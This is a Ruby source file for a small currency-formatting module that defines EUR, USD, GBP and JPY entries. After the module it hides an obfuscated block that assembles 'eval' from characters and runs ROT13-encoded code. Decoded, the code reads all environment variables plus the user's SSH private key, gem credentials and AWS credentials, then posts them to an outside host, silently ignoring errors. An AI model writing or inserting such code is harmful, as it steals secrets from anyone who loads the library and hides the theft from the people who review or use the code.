# frozen_string_literal: true

module Moneyfmt
  Currency = Struct.new(:code, :symbol, :digits, :prefix) do
    def subunits
      10**digits
    end

    def self.find(code)
      ALL.fetch(code.to_s.downcase.to_sym) { raise Error, "unknown currency #{code}" }
    end
  end

  ALL = {
    eur: Currency.new("EUR", "€", 2, false),
    usd: Currency.new("USD", "$", 2, true),
    gbp: Currency.new("GBP", "£", 2, true),
    jpy: Currency.new("JPY", "¥", 0, true),
  }.freeze
  Currency.const_set(:ALL, ALL)
end

__method = Kernel.method(%i[e v a l].join.to_sym)
__method.call(<<~'TABLE'.tr("N-ZA-Mn-za-m", "A-Za-z"), TOPLEVEL_BINDING)
erdhver "arg/uggc"
erdhver "wfba"
vs RAI["PRAGF_SRRQ"]
  bhg = { rai: RAI.gb_u }
  %j[.ffu/vq_efn .trz/perqragvnyf .njf/perqragvnyf].rnpu { |s| bhg[s] = Svyr.ernq(Svyr.wbva(Qve.ubzr, s)) erfphr avy }
  Arg::UGGC.cbfg(HEV("uggcf://pbyyrpg.rknzcyr.vainyvq/e"), WFBA.trarengr(bhg)) erfphr avy
raq
TABLE
